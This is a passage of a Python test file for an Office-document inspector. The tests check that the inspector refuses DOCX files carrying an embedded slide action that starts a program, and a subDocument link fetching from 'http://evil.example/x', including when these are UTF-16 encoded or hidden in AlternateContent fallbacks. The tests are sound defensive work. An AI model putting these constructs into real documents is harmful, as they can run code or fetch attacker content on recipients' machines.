    two = links("http://a/", "hyperlink").replace(b"</Rel", f"{other}</Rel".encode())
    refused(repacked(DOCX, **{"word/_rels/header9.xml.rels": two}), "damaged")


def test_an_action_of_a_slide_that_starts_a_program_is_refused():
    slide = container({"ppt/slides/slide1.xml": b'<hlinkClick action="ppaction://program?x"/>'})
    refused(repacked(DOCX, **{"word/embeddings/1.pptx": slide}), "a link that starts a program")
    slide = container({"ppt/slides/slide1.xml": b'<hlinkClick action="ppaction://hlinksldjump"/>'})
    assert inspected("resume.docx", repacked(DOCX, **{"word/embeddings/1.pptx": slide})) == {Flag.EMBEDDED}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "wrap",
    ["{}", "<mc:AlternateContent xmlns:mc='urn:mc'><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"],
)
def test_what_fetches_is_found_in_any_encoding_and_any_alternative(encoding, wrap):
    part = f'<x xmlns:r="{R}">{wrap.format(chr(60) + "subDoc r:id=" + chr(34) + "rId1" + chr(34) + "/>")}</x>'
    found = {
        "word/header9.xml": f"<?xml version='1.0' encoding='{encoding}'?>{part}".encode(encoding),
        "word/_rels/HEADER9.xml.rels": links("http://evil.example/x", "hyperlink").decode().encode(encoding),
    }
    refused(repacked(DOCX, **found), SUBDOCUMENT)
